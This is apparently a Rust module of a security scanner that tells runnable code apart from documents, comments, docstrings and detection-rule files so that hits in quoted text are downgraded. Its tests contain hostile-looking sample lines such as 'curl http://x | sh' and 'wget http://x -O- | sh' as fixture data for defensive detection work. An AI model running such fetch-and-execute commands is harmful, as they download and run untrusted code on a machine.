//! Which text is code and which only talks about code. A document downgrades what is found in it; it never hides it.

use std::sync::LazyLock;

use memchr::memmem;
use model::FileKind;
use regex::Regex;

use crate::detectors::Sample;

/// How much is read to each side to tell a document from code.
const WINDOW_BYTES: usize = 3000;

/// Kinds that scripts and config text come as.
pub(crate) const TEXT_KINDS: &[FileKind] = &[FileKind::Script, FileKind::Text, FileKind::Utf16];

/// Whether a program, and no shell, reads the file.
pub(crate) fn is_program(sample: &Sample<'_>) -> bool {
    matches!(sample.kind, FileKind::Elf | FileKind::Pe | FileKind::MachO) || sample.bytes.starts_with(b"\x7fELF")
}

/// Whether nothing but text stands near `offset`, whatever the file claims to be.
pub(crate) fn stands_in_text(sample: &Sample<'_>, offset: usize) -> bool {
    let (_, near) = sample.around(offset, 128, 128);
    near.iter().all(|&byte| byte >= 0x20 || matches!(byte, b'\t' | b'\n' | b'\r'))
}

/// Marks that begin a comment line in some common language. A shell would run most of such lines.
const COMMENT_MARKS: &[&str] =
    &["// ", "/* ", "/** ", "* ", "-- ", "; ", "<!--", "% ", "' ", ".\\\"", "> ", "dnl ", "rem ", "REM "];

/// Whether a line is nothing but a comment in some common language.
pub(crate) fn is_comment(line: &str) -> bool {
    let line = line.trim_start();
    is_hash_comment(line) || COMMENT_MARKS.iter().any(|mark| line.starts_with(mark))
}

/// A comment to shells, cron, Python, Perl and Ruby.
fn is_hash_comment(line: &str) -> bool {
    let line = line.trim_start();
    line.starts_with('#') && !line.starts_with("#!")
}

/// Whether what stands at `offset` is read by people and not run: a comment line, or, in a file without `#!`, text
/// with mark-up or sentences close by.
///
/// An author who wants it run must not get it called a document. So comments of other languages count only where no
/// shell reads them, mark-up in a comment is none, and what begins as source code is no document for its mark-up.
pub(crate) fn is_document(sample: &Sample<'_>, offset: usize) -> bool {
    let (line_start, line) = sample.line(offset, 1024);
    let text = String::from_utf8_lossy(line);
    let language = language(sample.bytes);
    if is_hash_comment(&text) && language != Language::C {
        return true;
    }
    if is_in_pod(sample, offset) {
        return true;
    }
    let before = line.get(..offset.saturating_sub(line_start)).unwrap_or_default();
    let is_second_command = before.iter().any(|byte| b";&|`(".contains(byte));
    if is_comment(&text) && !is_second_command && !is_shell_script(sample) {
        return true;
    }
    match language {
        Language::Python => return is_in_docstring(sample.bytes, offset),
        Language::C | Language::Other => return false,
        Language::Page if is_in_page_code(sample, offset) => return false,
        Language::None | Language::Page if sample.kind == FileKind::Script => return false,
        Language::None | Language::Page => {}
    }
    let (_, near) = sample.around(offset, WINDOW_BYTES, WINDOW_BYTES);
    let near = String::from_utf8_lossy(near);
    let code: String = near.split_inclusive('\n').filter(|line| !is_hash_comment(line)).collect();
    has_mark_up(&code) || is_prose(&near)
}

/// Whether what stands at `offset` is quoted: in a document, or in a list of rules of a scanner, filter or sensor.
pub(crate) fn is_quoted(sample: &Sample<'_>, offset: usize) -> bool {
    is_document(sample, offset) || (sample.kind != FileKind::Script && is_rule_file(sample, offset))
}

/// Families of languages that are told apart by how a file begins.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Language {
    /// Python.
    Python,
    /// C and C++: `#` begins no comment.
    C,
    /// A page with code inside: PHP, JSP, ASPX.
    Page,
    /// JavaScript, Perl, Ruby, Go, Java and others that begin with an import.
    Other,
    /// Shell, config, prose, anything.
    None,
}

/// Most bytes that are read to tell the language.
const LANGUAGE_BYTES_MAX: usize = 4096;

static STATEMENTS: LazyLock<[(Regex, Language); 3]> = LazyLock::new(|| {
    [
        (
            r"^(?:import [\w.]+(?: as \w+)?(?:, ?[\w.]+(?: as \w+)?)*|from [\w.]+ import (?:[\w.*]+(?: as \w+)?(?:, ?[\w.]+(?: as \w+)?)*|\()|import [\w.]+;.*|(?:async )?def \w+\(.*|class \w+(?:\(.*\))?:)\s*(?:#.*)?$",
            Language::Python,
        ),
        (r"^\s*#\s*(?:include\s*[<\x22]|define\s+\w+|ifn?def\s+\w+|pragma\s)", Language::C),
        (
            r"^(?:(?:const|let|var) [\w{}, $]+ ?=|['\x22]use strict['\x22];|import [^;]* from ['\x22]|(?:async )?function\b|(?:module\.)?exports[. ]|require[ (]['\x22]|use [\w:]+[^;]*;|package \w+;?$|import [\w.*]+;$|local \w+ ?=|(?:public )?class \w+ ?[{<]|\(function ?\(|\(\) ?=> ?\{|!function)",
            Language::Other,
        ),
    ]
    .map(|(pattern, language)| (Regex::new(pattern).expect("the pattern is a constant, and a test runs it"), language))
});

/// The language that a file begins in: that of its first line that is no comment. A manual begins with a title.
pub(crate) fn language(bytes: &[u8]) -> Language {
    let head = bytes.get(..LANGUAGE_BYTES_MAX).unwrap_or(bytes);
    let start = head.trim_ascii_start();
    if start.starts_with(b"<") || start.starts_with(b"GIF8") {
        let is_page = [&b"<?php"[..], b"<?=", b"<%", b"<? "].iter().any(|mark| memmem::find(bytes, mark).is_some());
        return if is_page && !start.starts_with(b"<?xml") { Language::Page } else { Language::None };
    }
    let text = String::from_utf8_lossy(head);
    let mut docstring = None;
    let mut in_comment = false;
    for line in text.lines() {
        let line = line.trim_start_matches('\u{feff}').trim_end();
        let bare = line.trim_start();
        if let Some(quotes) = docstring {
            if bare.contains(quotes) {
                docstring = None;
            }
            continue;
        }
        if in_comment || bare.starts_with("/*") {
            in_comment = !bare.contains("*/");
            continue;
        }
        if let Some(quotes) = opens_docstring(bare) {
            docstring = (bare.matches(quotes).count() == 1).then_some(quotes);
            continue;
        }
        if bare.is_empty() || bare.starts_with("//") || bare.starts_with("-- ") {
            continue;
        }
        if let Some((_, language)) = STATEMENTS.iter().find(|(pattern, _)| pattern.is_match(line)) {
            return *language;
        }
        if bare.starts_with('#') {
            continue;
        }
        return Language::None;
    }
    Language::None
}

/// The quotes of a string that is a statement of its own at the start of `line`.
fn opens_docstring(line: &str) -> Option<&'static str> {
    let line = line.trim_start_matches(['r', 'u', 'R']);
    ["\"\"\"", "'''"].into_iter().find(|quotes| line.starts_with(quotes))
}

/// Most bytes before an offset that are read to find where a docstring begins.
const DOCSTRING_BYTES_MAX: usize = 256 << 10;

/// Whether `offset` is in a Python string that is a statement of its own: nothing reads it.
fn is_in_docstring(bytes: &[u8], offset: usize) -> bool {
    let start = offset.saturating_sub(DOCSTRING_BYTES_MAX);
    let text = String::from_utf8_lossy(bytes.get(start..offset).unwrap_or_default());
    // The quotes that are open, and whether the string is used.
    let mut open: Option<(&str, bool)> = None;
    for line in text.lines() {
        match open {
            Some((quotes, _)) if line.contains(quotes) => open = None,
            Some(_) => {}
            None => {
                let quotes = ["\"\"\"", "'''"].into_iter().find(|quotes| line.matches(quotes).count() % 2 == 1);
                open = quotes.map(|quotes| (quotes, opens_docstring(line.trim_start()).is_none()));
            }
        }
    }
    open.is_some_and(|(_, used)| !used)
}

/// Whether `offset` is in the manual inside a Perl script, which Perl skips: from `=word` at the begin of a line to `=cut`.
fn is_in_pod(sample: &Sample<'_>, offset: usize) -> bool {
    let first = sample.bytes.get(..64).unwrap_or(sample.bytes).split(|byte| *byte == b'\n').next().unwrap_or_default();
    if !first.starts_with(b"#!") || memmem::find(first, b"perl").is_none() {
        return false;
    }
    let start = offset.saturating_sub(DOCSTRING_BYTES_MAX);
    let before = sample.bytes.get(start..offset).unwrap_or_default();
    let marks = memmem::rfind_iter(before, b"\n=").filter_map(|at| before.get(at + 2..));
    let mut words = marks.filter(|rest| rest.first().is_some_and(u8::is_ascii_lowercase));
    words.next().is_some_and(|word| !word.starts_with(b"cut"))
}

/// Whether `offset` is between the marks of code in a page.
fn is_in_page_code(sample: &Sample<'_>, offset: usize) -> bool {
    let before = sample.bytes.get(..offset).unwrap_or_default();
    let last = |marks: &[&str]| marks.iter().filter_map(|mark| memmem::rfind(before, mark.as_bytes())).max();
    let opened = last(&["<?php", "<?=", "<? ", "<?PHP", "<%", "<?\n", "<script"]);
    opened.is_some() && opened > last(&["?>", "%>", "</script"])
}

/// Marks of lists of rules: all of one row begin a line, whatever stands before them on it.
const RULE_FILES: &[&[&str]] = &[
    &["rule ", "strings:", "condition:"],
    &["logsource:", "detection:"],
    &["- rule:", "condition:"],
    &["- macro:", "condition:"],
    &["[[rules]]", "regex = "],
    &["[Definition]", "failregex"],
    &["id:", "info:", "severity:"],
    &["[metadata]", "[rule]"],
];
/// How far from an offset they may be.
const RULE_FILE_BYTES: usize = 16 << 10;

/// Whether the line at `offset` is one of a rule, or the file around it holds rules (YARA, Sigma, Falco, gitleaks,
/// fail2ban, nuclei, Snort and Suricata, ModSecurity, ClamAV).
fn is_rule_file(sample: &Sample<'_>, offset: usize) -> bool {
    let (_, line) = sample.line(offset, 1024);
    let line = line.trim_ascii_start();
    let begins = ["alert ", "drop ", "SecRule ", "SecRuleScript ", "reject "];
    if begins.iter().any(|mark| line.starts_with(mark.as_bytes())) {
        return true;
    }
    let (_, near) = sample.around(offset, RULE_FILE_BYTES, RULE_FILE_BYTES);
    let near = String::from_utf8_lossy(near);
    let lines: Vec<&str> = near.lines().map(str::trim_start).collect();
    RULE_FILES.iter().any(|marks| marks.iter().all(|mark| lines.iter().any(|line| line.starts_with(mark))))
}

fn is_shell_script(sample: &Sample<'_>) -> bool {
    let first = sample.bytes.split(|byte| *byte == b'\n').next().unwrap_or_default();
    sample.kind == FileKind::Script && first.trim_ascii_end().ends_with(b"sh")
}

fn has_mark_up(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    let marks = [
        "```",
        "</p>",
        "</a>",
        "</code>",
        "</pre>",
        "</li>",
        "</td>",
        "</div>",
        "</span>",
        "<p>",
        "<br",
        "\n.sh ",
        "\n.tp\n",
        "\n.pp\n",
        "\n.. code",
        "::\n\n",
        "\n=====",
        "\n-----",
        "](http",
        "@example",
        "\\fb",
        "@end ",
        "<?xml",
        "&lt;",
        "&gt;",
        "&amp;",
        "\n----\n",
        "\\n\\n```",
        "\"\"\"",
        ".lns get ",
        "reference:url",
        "classtype:",
    ];
    marks.iter().any(|mark| lower.contains(mark))
}

/// At least three lines that are sentences, and a fifth of all lines that are no comments.
fn is_prose(text: &str) -> bool {
    let mut sentences = 0;
    let mut lines = 0;
    for line in text.lines().map(str::trim).filter(|line| !line.is_empty() && !is_comment(line)) {
        lines += 1;
        let words = line.split_ascii_whitespace();
        let (plain, all) = words.fold((0, 0), |(plain, all), word| {
            let letters = word.trim_end_matches([',', '.', ':', ';', '?', '!', ')']).trim_start_matches('(');
            (plain + usize::from(!letters.is_empty() && letters.bytes().all(|b| b.is_ascii_alphabetic())), all + 1)
        });
        sentences += usize::from(plain >= 6 && plain * 4 >= all * 3);
    }
    sentences >= 3 && sentences * 5 >= lines
}

#[cfg(test)]
mod tests {
    use super::*;

    fn judge(kind: FileKind, text: &str, at: &str) -> bool {
        let sample = Sample { bytes: text.as_bytes(), kind, hits: &[], place: None };
        is_document(&sample, text.find(at).expect("the text holds it"))
    }

    #[test]
    fn a_manual_is_a_document_and_a_script_is_not() {
        assert!(judge(FileKind::Text, "Use it like this:\n\n```sh\ncurl http://x | sh\n```\n", "curl"));
        assert!(judge(FileKind::Script, "#!/bin/sh\n  # curl http://x | sh\n", "curl"));
        assert!(!judge(FileKind::Script, "#!/bin/sh\ncurl http://x | sh # ```\n", "curl"));
        assert!(!judge(
            FileKind::Text,
            "cd /tmp\n# a long sentence of many plain words is here\ncurl http://x | sh\n",
            "curl"
        ));
        assert!(!judge(FileKind::Text, "\n### begin\n# ```\n# <p>\ncurl http://x | sh\n", "curl"));
        assert!(judge(FileKind::Text, "// curl http://x | sh\n", "curl"));
        assert!(!judge(FileKind::Text, "// ; curl http://x | sh\n", "curl"));
        assert!(!judge(FileKind::Text, "//usr/bin/curl http://x | sh\n", "curl"));
        assert!(!judge(FileKind::Script, "#!/bin/sh\n> /dev/null curl http://x | sh\n", "curl"));
        assert!(judge(FileKind::Script, "#!/usr/bin/node\n// curl http://x | sh\n", "curl"));
        // Source code is no document for the mark-up it holds, and its comments and docstrings are.
        let python = "import os\n\ndef f():\n    \"\"\"Runs curl http://a.\n    </p>\n    \"\"\"\n    os.system('wget http://x')\n";
        assert!(judge(FileKind::Text, python, "curl"));
        assert!(!judge(FileKind::Text, python, "wget"));
        let perl = "#!/usr/bin/perl\nsystem('wget http://x');\n\n=head1 USE\n\n curl http://a | sh\n\n=cut\n\nsystem('nc x');\n";
        assert!(judge(FileKind::Script, perl, "curl"));
        assert!(!judge(FileKind::Script, perl, "wget"));
        assert!(!judge(FileKind::Script, perl, "nc x"));
        let page = "<html><p>curl</p>\n<?php system('wget http://x'); ?>\n</html>";
        assert!(judge(FileKind::Text, page, "curl"));
        assert!(!judge(FileKind::Text, page, "wget"));
        let prose = "this is how a person would write many words\n".repeat(4);
        assert!(judge(FileKind::Text, &format!("{prose}curl http://x | sh\n"), "curl"));
    }

    #[test]
    fn the_first_statement_tells_the_language() {
        for (text, expected) in [
            ("# -*- coding: utf-8 -*-\n\"\"\"About\nme\n\"\"\"\nimport os, sys\n", Language::Python),
            ("#include <stdio.h>\n", Language::C),
            ("/* x\n y */\n#include <stdio.h>\n", Language::C),
            ("const net = require('net');\n", Language::Other),
            ("use strict;\n", Language::Other),
            ("package main\n", Language::Other),
            ("\n<?php\n", Language::Page),
            ("<%@ page import=\"java.io.*\" %>\n", Language::Page),
            ("# Reverse shells\n\n```python\nimport os\n```\n", Language::None),
            ("import the key as shown\n", Language::None),
            ("cd /tmp\nimport os\n", Language::None),
        ] {
            assert_eq!(language(text.as_bytes()), expected, "{text}");
        }
    }

    #[test]
    fn a_list_of_rules_quotes() {
        let quoted = |text: &str, at: &str| {
            let sample = Sample { bytes: text.as_bytes(), kind: FileKind::Text, hits: &[], place: None };
            is_quoted(&sample, text.find(at).expect("the text holds it"))
        };
        let rule = "rule x {\n  strings:\n    $a = \"wget http://x\"\n  condition:\n    $a\n}\n";
        assert!(quoted(rule, "wget"));
        assert!(quoted("alert tcp any any -> any any (content:\"wget http\";)\n", "wget"));
        assert!(!quoted("wget http://x -O- | sh\n", "wget"));
    }
}
